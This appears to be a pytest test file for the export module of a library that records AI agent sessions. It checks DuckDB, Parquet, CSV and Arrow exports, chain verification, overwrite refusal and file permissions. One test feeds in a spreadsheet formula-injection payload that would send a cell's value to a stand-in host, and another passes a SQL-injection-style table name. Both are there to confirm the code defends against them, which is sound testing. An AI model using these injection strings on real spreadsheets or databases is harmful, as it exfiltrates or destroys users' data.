"""Exports: their contents, that they are whole, and that nothing is overwritten unasked."""

from __future__ import annotations

import sys
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from kits.records import Record

import mentra_nb as mn
import mentra_nb.event.types as e
from mentra_nb.errors import ConfigurationError, OperationDenied
from mentra_nb.record.keep.compact import compact
from mentra_nb.record.keep.verify import verify
from mentra_nb.record.read import export, frames
from mentra_nb.record.write import chain

pytestmark = pytest.mark.slow


def only_file(path: Path) -> None:
    """Nothing half-done is left beside it."""
    assert [each.name for each in path.parent.iterdir() if each.name != "record"] == [path.name]


def test_a_database_holds_every_table_its_meaning_and_the_chain(full: Record, tmp_path: Path) -> None:
    target = export.export(tmp_path / "it's mine.duckdb", folder=full.folder)
    only_file(target)
    with duckdb.connect(str(target), read_only=True) as con:
        con.execute("SET TimeZone = 'UTC'")
        for name in export.TABLES:
            count = con.execute(f"SELECT count(*) FROM {name}").fetchone()
            assert count == (len(getattr(frames, name)(folder=full.folder)),)
        cost = con.execute("SELECT cost_usd FROM turns").fetchone()
        said = dict(
            con.execute("SELECT column_name, comment FROM duckdb_columns() WHERE table_name = 'turns'").fetchall()
        )
        links = con.execute("SELECT kind, segment, events, sha256, digest FROM chain").fetchall()
    assert cost == (frames.turns(folder=full.folder).cost_usd[0],)
    assert said["seconds"] == "s: from the question to its end; null while it runs"
    assert None not in said.values()
    (link,) = chain.chain_rows(full.folder)
    assert links == [tuple(link[name] for name in ("kind", "segment", "events", "sha256", "digest"))]


def test_a_database_can_be_read_by_older_duckdb(full: Record, tmp_path: Path) -> None:
    target = export.export(tmp_path / "x.duckdb", folder=full.folder)
    with duckdb.connect() as con:
        con.execute(f"ATTACH '{target}' AS x (READ_ONLY)")
        tags = con.execute("SELECT tags FROM duckdb_databases() WHERE database_name = 'x'").fetchone()
    assert tags == ({"storage_version": "v1.0.0+"},)


@pytest.mark.parametrize("compacted", [True, False])
def test_a_folder_is_a_record_that_can_be_verified(full: Record, tmp_path: Path, compacted: bool) -> None:
    if compacted:
        compact(full.folder, grace=0)
        compact(full.folder, grace=0)
    (full.folder / "prices.csv").write_text("provider,model,input_mtok,output_mtok\nanthropic,*,1,1\n")
    target = export.export(tmp_path / "for the auditor", folder=full.folder)
    only_file(target)
    assert (target / "chain.jsonl").read_bytes() == (full.folder / "chain.jsonl").read_bytes()
    found = verify(target)
    assert (list(found.state), list(found.problem.isna())) == (["compacted" if compacted else "complete"], [True])
    for name in export.TABLES:
        ours, theirs = (getattr(frames, name)(folder=folder) for folder in (full.folder, target))
        pd.testing.assert_frame_equal(ours, theirs)
    with duckdb.connect() as con:
        (turns,) = con.execute(f"SELECT count(*) FROM '{target}/tables/turns.parquet'").fetchall()
    assert turns == (1,)

    (segment,) = (target / "events").glob("0*.parquet" if compacted else "0*.jsonl")  # and what is altered is found
    segment.write_bytes(segment.read_bytes().replace(b"list files", b"list piles") if not compacted else b"")
    assert verify(target).problem.notna().all()


def test_a_folder_may_be_named_by_text_and_must_hold_a_record_to_be_verified(full: Record, tmp_path: Path) -> None:
    folder = str(export.export(tmp_path / "x", folder=str(full.folder)))
    assert list(verify(folder).problem.isna()) == [True]
    assert mn.record_head(folder) is not None
    assert len(mn.prune(keep_days=0, dry_run=True, folder=folder)) == 1
    assert len(frames.turns(folder=folder)) == len(frames.sql("SELECT * FROM turns", folder=folder)) == 1
    with pytest.raises(ConfigurationError, match="there is no record in"):
        verify(folder + "y")


def test_one_table(two: Record, tmp_path: Path) -> None:
    parquet = export.export(tmp_path / "turns.parquet", table="turns", session="s1", folder=two.folder)
    text = export.export(tmp_path / "calls.csv", table="tool_calls", folder=two.folder)
    with duckdb.connect() as con:
        assert con.execute(f"SELECT DISTINCT session_id FROM '{parquet}'").fetchall() == [("s1",)]
    assert list(pd.read_csv(text).columns) == list(mn.columns("tool_calls").column)
    assert len(pd.read_csv(text)) == 4


def test_an_arrow_file(two: Record, tmp_path: Path) -> None:
    feather = pytest.importorskip("pyarrow.feather")
    for name in export.TABLES:
        file = export.export(tmp_path / f"{name}.arrow", table=name, folder=two.folder)
        frame = feather.read_table(file).to_pandas()
        ours = getattr(frames, name)(folder=two.folder)
        assert (len(frame), list(frame.columns)) == (len(ours), list(ours.columns))


def test_an_arrow_file_without_arrow(two: Record, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(ConfigurationError, match="pip install pyarrow"):
        export.export(tmp_path / "x.arrow", folder=two.folder)
    assert [each.name for each in tmp_path.iterdir()] == ["record"]


def test_a_part_of_the_record(two: Record, tmp_path: Path) -> None:
    target = export.export(tmp_path / "one.duckdb", session="talk s2", folder=two.folder)
    with duckdb.connect(str(target), read_only=True) as con:
        assert con.execute("SELECT session_id, turns FROM sessions").fetchall() == [("s2", 2)]
        assert con.execute("SELECT count(*) FROM tool_calls").fetchone() == (2,)
        assert con.execute("SELECT count(*) FROM duckdb_tables() WHERE table_name = 'chain'").fetchone() == (0,)
    with pytest.raises(ConfigurationError, match="a folder holds the whole record"):
        export.export(tmp_path / "folder", session="s2", folder=two.folder)
    only_file(target)


def test_nothing_is_overwritten_unless_asked(full: Record, tmp_path: Path) -> None:
    file, folder, foreign = tmp_path / "x.duckdb", tmp_path / "x", tmp_path / "thesis"
    foreign.mkdir()
    (foreign / "chapter.md").write_text("mine")
    for target in (file, folder):
        export.export(target, folder=full.folder)
        (target if target is file else target / "note").write_text("changed")
        with pytest.raises(OperationDenied, match=r"exists; pass overwrite=True"):
            export.export(target, folder=full.folder)
        export.export(target, folder=full.folder, overwrite=True)
    assert not (folder / "note").exists()
    with pytest.raises(OperationDenied, match="no export made"):
        export.export(foreign, folder=full.folder, overwrite=True)
    assert (foreign / "chapter.md").read_text() == "mine"


def test_an_export_that_fails_leaves_no_file(full: Record, tmp_path: Path) -> None:
    (full.folder / "prices.csv").write_text("provider,model\nx,y\n")
    with pytest.raises(ConfigurationError, match="line 2"):
        export.export(tmp_path / "x.duckdb", folder=full.folder)
    assert [each.name for each in tmp_path.iterdir()] == ["record"]


def test_the_records_own_folder_is_refused(full: Record) -> None:
    for target in (full.folder, full.folder / "record.duckdb", full.folder / "events" / "x"):
        with pytest.raises(ConfigurationError, match="in the record's own folder"):
            export.export(target, folder=full.folder, overwrite=True)


def test_an_unknown_table_is_refused(full: Record, tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="no table 'x; DROP'; there are events, usage"):
        export.export(tmp_path / "x.parquet", table="x; DROP", folder=full.folder)


def test_exports_are_private(full: Record, tmp_path: Path) -> None:
    file = export.export(tmp_path / "x.parquet", folder=full.folder)
    assert file.stat().st_mode & 0o777 == 0o600
    folder = export.export(tmp_path / "x", folder=full.folder)
    assert folder.stat().st_mode & 0o077 == 0


def test_an_empty_record_exports_empty_tables(tmp_path: Path) -> None:
    target = export.export(tmp_path / "x.duckdb", folder=tmp_path / "nothing")
    with duckdb.connect(str(target), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM turns").fetchone() == (0,)
    export.export(tmp_path / "y", folder=tmp_path / "nothing")


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t=", "\r=", "＝"])
def test_a_spreadsheet_computes_nothing_in_a_csv_file(record: Record, tmp_path: Path, begins: str) -> None:
    """A model or a page that it read may have written the text."""
    text = f'{begins}HYPERLINK("http://x.invalid/?"&A1,"total")'
    record.add(e.TurnStarted, run_id="r1", model="m", prompt=text, session_id="s1")
    record.add(e.TurnStarted, run_id="r2", model="m", prompt="1 = 1, -1 + x", session_id="s1")
    file = mn.export(tmp_path / "turns.csv", table="turns", folder=record.folder)
    assert pd.read_csv(file).prompt.tolist() == [f"'{text}", "1 = 1, -1 + x"]
    whole = mn.export(tmp_path / "turns.parquet", table="turns", folder=record.folder)
    assert pd.read_parquet(whole).prompt.tolist()[0] == text
    for table in export.TABLES:
        assert mn.export(tmp_path / "one.csv", table=table, folder=record.folder, overwrite=True).exists()
